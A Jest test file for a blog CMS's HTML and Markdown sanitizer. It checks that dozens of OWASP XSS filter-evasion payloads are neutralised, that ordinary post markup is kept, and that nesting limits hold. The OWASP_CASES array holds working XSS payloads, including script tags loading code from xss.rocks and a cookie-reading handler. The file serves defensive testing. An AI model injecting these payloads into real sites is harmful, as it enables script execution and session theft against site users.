import { processContent } from '../../../shared/content/process-content';
import { sanitizePostHtml } from '../../../shared/content/sanitize';
import { ContentNestedTooDeep, MAX_HTML_DEPTH } from '../../../shared/content/content-errors';
import { dangersIn } from '../../support/html-safety';

/**
 * Cases of the OWASP XSS Filter Evasion Cheat Sheet (and a few mutation-XSS classics), each as
 * written there. Every one must come out of the sanitizer with nothing that can run.
 */
const OWASP_CASES: Array<[string, string]> = [
  ['basic script', '<script>alert(1)</script>'],
  ['script with external source', '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>'],
  ['script in mixed case', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script with a slash instead of a space', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['script without a closing tag', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'],
  ['image with javascript: source', `<IMG SRC="javascript:alert('XSS');">`],
  ['no quotes and no semicolon', `<IMG SRC=javascript:alert('XSS')>`],
  ['case-insensitive scheme', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed img with a script after it', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror with fromCharCode', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['anchor onmouseover', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['decimal entities', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['long decimal entities without semicolons', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex entities without semicolons', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['encoded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['encoded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['null byte in the scheme', '<IMG SRC=java\u0000script:alert("XSS")>'],
  ['spaces and meta characters before the scheme', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['anchor with an encoded tab in the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['anchor with an entity for the first letter', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ['anchor with &colon;', '<a href="javascript&colon;alert(1)">x</a>'],
  ['anchor with a leading space', '<a href=" javascript:alert(1)">x</a>'],
  ['vbscript: URL', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: URL in a link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: URL in an image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['javascript: in srcset', '<img srcset="javascript:alert(1) 1x, https://cdn.example.com/a.png 2x">'],
  ['event handler with odd characters', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['half-open image', '<IMG SRC="`<javascript:alert>`(\'XSS\')"'],
  ['unclosed iframe', '<iframe src=http://xss.rocks/scriptlet.html <'],
  ['svg onload', "<svg/onload=alert('XSS')>"],
  ['script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['body background', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['input image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['style element with a javascript: URL', `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ['meta refresh to javascript:', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ['meta refresh to a data: URL', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ['iframe', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['frameset', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['table background', `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><TD BACKGROUND="javascript:alert('XSS')">x</td></tr></table>`],
  ['style url()', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`],
  ['style expression()', `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`],
  ['style expression() with a comment', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ['style behavior', '<XSS STYLE="behavior: url(xss.htc);">'],
  ['base href', `<BASE HREF="javascript:alert('XSS');//">`],
  ['object', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'],
  ['embed with an svg data: URL', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'],
  ['link stylesheet', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['form action', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['processing instruction', `<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>`],
];

describe('the HTML sanitizer against the OWASP filter-evasion cases', () => {
  test('holds at least 30 cases', () => {
    expect(OWASP_CASES.length).toBeGreaterThanOrEqual(30);
  });

  test.each(OWASP_CASES)('neutralises %s', (_name, attack) => {
    // Act
    const html = processContent(attack, { format: 'html', unfiltered: false }).content;
    const viaMarkdown = processContent(attack, { format: 'markdown', unfiltered: false }).content;
    // Assess
    expect(dangersIn(html)).toEqual([]);
    expect(dangersIn(viaMarkdown)).toEqual([]);
    expect(html.toLowerCase()).not.toMatch(/<script|onerror=|onload=/);
  });

  test.each([
    ['a Markdown link', '[click](javascript:alert(1))'],
    ['a Markdown link with an entity', '[click](jav&#x09;ascript:alert(1))'],
    ['a Markdown image with a data: URL', '![x](data:image/png;base64,iVBORw0KGgo=)'],
    ['a Markdown reference link', '[click][x]\n\n[x]: javascript:alert(1)'],
    ['an autolink', '<javascript:alert(1)>'],
  ])('neutralises %s once the Markdown is rendered', (_name, attack) => {
    // Act
    const { content } = processContent(attack, { format: 'markdown', unfiltered: false });
    // Assess
    expect(dangersIn(content)).toEqual([]);
    expect(content).not.toMatch(/href="(?!https?:|mailto:)[a-z]+:/i);
  });
});

describe('what a blog reader expects survives', () => {
  test('headings, paragraphs, lists, links, images, tables, code, quotes and figures are kept', () => {
    // Prepare
    const post = [
      '<h2 id="intro">Intro</h2>',
      '<p>Some <em>emphasis</em>, <strong>strength</strong> and <a href="https://example.com/a" title="A">a link</a>.</p>',
      '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
      '<figure class="gallery"><img src="https://cdn.example.com/a.jpg" alt="A" width="300" height="200"><figcaption>Caption</figcaption></figure>',
      '<table><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan="2">d</td></tr></tbody></table>',
      '<pre><code class="language-ts">const a = 1 &lt; 2;</code></pre>',
      '<blockquote><p>Quoted</p></blockquote>',
      '<p><a href="mailto:me@example.com">mail</a></p>',
    ].join('');
    // Act
    const { content } = processContent(post, { format: 'html', unfiltered: false });
    // Assess: the same markup, re-serialised (void elements are written self-closed)
    expect(content).toBe(post.replace('height="200">', 'height="200" />'));
  });

  test('a link opening a new tab gets rel="noopener noreferrer", whatever rel was sent', () => {
    // Act
    const html = sanitizePostHtml('<a href="https://example.com/" target="_blank" rel="opener">x</a><a href="/local" target="_top">y</a>');
    // Assess
    expect(html).toBe('<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a><a href="/local">y</a>');
  });

  test('Markdown from an author is stored as the sanitized HTML it renders to', () => {
    // Act
    const { content, metrics } = processContent('# Title\n\nHello <img src=x onerror=alert(1)> [site](https://example.com)', { unfiltered: false });
    // Assess
    expect(content).toBe('<h1>Title</h1>\n<p>Hello <img src="x" /> <a href="https://example.com">site</a></p>\n');
    expect(metrics.toc.map((h) => h.title)).toEqual(['Title']);
  });
});

describe('callers with cms.content.unfiltered_html', () => {
  test.each(OWASP_CASES.slice(0, 10))('keep their content byte for byte: %s', (_name, attack) => {
    // Act
    const { content } = processContent(attack, { unfiltered: true });
    // Assess
    expect(content).toBe(attack);
  });
});

describe('Markdown nested past the parser cap', () => {
  test('is refused rather than cut short', () => {
    // Prepare
    let nested = '';
    for (let depth = 0; depth < 60; depth++) nested += `${'  '.repeat(depth)}- x\n`;
    // Act
    const refused = () => processContent(`${nested}\nThe rest`, { unfiltered: false });
    const kept = processContent(`${nested.split('\n').slice(0, 40).join('\n')}\n\nThe rest`, { unfiltered: false });
    // Assess
    expect(refused).toThrow(ContentNestedTooDeep);
    expect(kept.content).toContain('The rest');
  });
});

describe('HTML nested past MAX_HTML_DEPTH', () => {
  const nested = (levels: number, inner = 'x') => `${'<div>'.repeat(levels)}${inner}${'</div>'.repeat(levels)}`;

  test.each([
    ['an author (sanitized)', false],
    ['an editor (kept as sent)', true],
  ])('is refused for %s, in HTML and inside Markdown; at the limit it is kept', (_who, unfiltered) => {
    // Act
    const html = () => processContent(nested(MAX_HTML_DEPTH + 1), { format: 'html', unfiltered });
    const inMarkdown = () => processContent(`# Title\n\n${nested(MAX_HTML_DEPTH + 1)}\n`, { format: 'markdown', unfiltered });
    const atLimit = processContent(nested(MAX_HTML_DEPTH, 'deepest words'), { format: 'html', unfiltered });
    // Assess
    expect(html).toThrow(ContentNestedTooDeep);
    expect(html).toThrow(`at most ${MAX_HTML_DEPTH} elements`);
    expect(inMarkdown).toThrow(ContentNestedTooDeep);
    expect(atLimit.metrics.words).toBe(2);
  });

  test('elements the parser closes itself do not add up: 2,000 unclosed list items and paragraphs are one level each', () => {
    // Prepare: `<li>` closes the open `<li>`, `<p>` the open `<p>`, `<img>` and `<br>` hold nothing.
    const body = `<ul>${'<li>item <img src="https://example.com/a.png"><br>'.repeat(2000)}</ul>${'<p>paragraph'.repeat(2000)}`;
    // Act
    const sanitized = processContent(body, { format: 'html', unfiltered: false });
    const kept = processContent(body, { format: 'html', unfiltered: true });
    // Assess
    expect(sanitized.metrics.media).toBe(2000);
    expect(kept.metrics.words).toBe(4000);
  });
});
